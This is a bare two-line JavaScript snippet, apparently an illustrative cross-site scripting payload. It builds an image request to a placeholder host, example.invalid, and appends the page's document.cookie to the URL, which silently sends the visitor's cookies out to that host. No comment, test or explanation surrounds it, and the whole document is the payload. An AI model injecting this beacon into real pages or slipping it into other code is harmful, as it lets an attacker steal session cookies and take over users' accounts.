const img = new Image();
img.src = 'https://example.invalid/p.gif?d=' + encodeURIComponent(document.cookie);
